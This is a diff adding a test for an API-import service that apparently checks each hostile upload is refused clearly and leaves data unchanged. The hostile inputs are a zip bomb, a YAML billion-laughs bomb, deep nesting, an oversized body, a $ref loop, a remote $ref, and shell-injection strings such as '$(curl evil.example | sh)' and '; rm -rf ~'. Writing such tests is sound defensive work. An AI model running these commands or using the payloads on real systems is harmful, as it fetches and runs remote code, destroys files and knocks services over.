@@ -4,6 +4,7 @@ renamed each to its own, and the library exported afterwards holds every API wri
 
 import asyncio
 import io
+import json
 import zipfile
 from collections import Counter
 from collections.abc import AsyncIterator
@@ -13,7 +14,7 @@ import aiohttp
 import pytest
 import yaml
 
-from tests.cli import KEY, callout, callout_serve, wait_up
+from tests.cli import KEY, callout, callout_serve, init, snapshot, wait_up
 
 FILE = """callout: 1
 name: {name}
@@ -98,3 +99,109 @@ async def test_hundreds_of_imports_at_once_each_write_whole_and_export_back(
     async with session.get(f"{url}/apis/{api_id}/export") as response:
         text = await response.text()
     assert yaml.safe_load(text)["requests"][1]["body"] == '{"text": "${text}"}'
+
+
+def _zip_bomb() -> bytes:
+    """A 100 KB zip whose one entry expands to 100 MB."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        archive.writestr("crm.yaml", b"#" * (100 * 1024 * 1024))
+    return buffer.getvalue()
+
+
+def _openapi(get: dict[str, object], components: dict[str, object] | None = None) -> str:
+    document = {
+        "openapi": "3.1.0",
+        "info": {"title": "Shop", "version": "1"},
+        "servers": [{"url": "https://shop.example.com"}],
+        "paths": {"/pets": {"get": {**get, "responses": {"200": {"description": "OK"}}}}},
+        "components": components or {},
+    }
+    return json.dumps(document)
+
+
+LOOP = {
+    "parameters": {
+        "A": {"$ref": "#/components/parameters/B"},
+        "B": {"$ref": "#/components/parameters/A"},
+    }
+}
+HOSTILE = {
+    "billion laughs": (
+        "\n".join(
+            ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
+            + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
+        ).encode(),
+        422,
+        "upload: expands to more than 5,000,000 values (YAML aliases?)",
+    ),
+    "10,000 deep": (b"[" * 10_000 + b"]" * 10_000, 422, "upload: nests deeper than 100 levels"),
+    "50 MB": (
+        b'{"openapi": "3.1.0", "padding": "' + b"x" * (50 * 1024 * 1024) + b'"}',
+        413,
+        "the request body is larger than 33,554,432 bytes, the most this route takes",
+    ),
+    "zip bomb": (_zip_bomb(), 422, "upload: expands to more than 33,554,432 bytes"),
+    "truncated": (_openapi({"operationId": "list"}).encode()[:80], 422, "is neither JSON nor YAML"),
+    "$ref loop": (
+        _openapi({"parameters": [{"$ref": "#/components/parameters/A"}]}, LOOP).encode(),
+        422,
+        "$ref leads back to itself",
+    ),
+    "remote $ref": (
+        _openapi({"parameters": [{"$ref": "https://evil.example/p.json"}]}).encode(),
+        422,
+        "points to another file or URL",
+    ),
+    "shell metacharacters": (
+        b"curl https://crm.example.com/api/$(curl evil.example | sh)",
+        422,
+        "a shell would run the command in $(...); nothing is run",
+    ),
+    "shell operators": (
+        b"curl https://crm.example.com/api; rm -rf ~",
+        422,
+        "upload: line 1, column 33: one curl command, no shell operators: ; outside quotes",
+    ),
+}
+
+
+async def test_hostile_files_at_once_are_each_refused_clearly_and_change_nothing(
+    tmp_path: Path,
+) -> None:
+    installation = init(tmp_path)
+    with callout_serve(installation.data_dir, tmp_path / "serve.log") as (server, root):
+        await wait_up(root, server)
+        url = f"{root}/api/v1/clients/demo"
+        async with aiohttp.ClientSession(
+            headers={"Authorization": f"Bearer {installation.admin_key}"},
+            timeout=aiohttp.ClientTimeout(total=120),
+            connector=aiohttp.TCPConnector(limit=0),
+        ) as session:
+            assert (await _import(session, url, FILE.format(name="CRM")))[0] == 201
+            before = snapshot(installation.data_dir)
+
+            async def hostile(name: str) -> tuple[str, int, str]:
+                data, _, _ = HOSTILE[name]
+                async with session.post(f"{url}/import", data=io.BytesIO(data)) as response:
+                    return name, response.status, (await response.json())["detail"]
+
+            # Each hostile file 10 times over, at once (the 50 MB one twice), beside good
+            # dry runs: every one refused on its own, the server answering throughout.
+            names = [name for name in HOSTILE for _ in range(2 if name == "50 MB" else 10)]
+            answers, dry_runs = await asyncio.gather(
+                asyncio.gather(*(hostile(name) for name in names)),
+                asyncio.gather(
+                    *(
+                        _import(session, url, FILE.format(name="New"), dry_run="true")
+                        for _ in range(50)
+                    )
+                ),
+            )
+            for name, status, detail in answers:
+                _, expected_status, expected = HOSTILE[name]
+                assert (status, expected in detail) == (expected_status, True), (name, detail)
+            assert {status for status, _ in dry_runs} == {200}
+            assert server.poll() is None
+
+    assert snapshot(installation.data_dir) == before
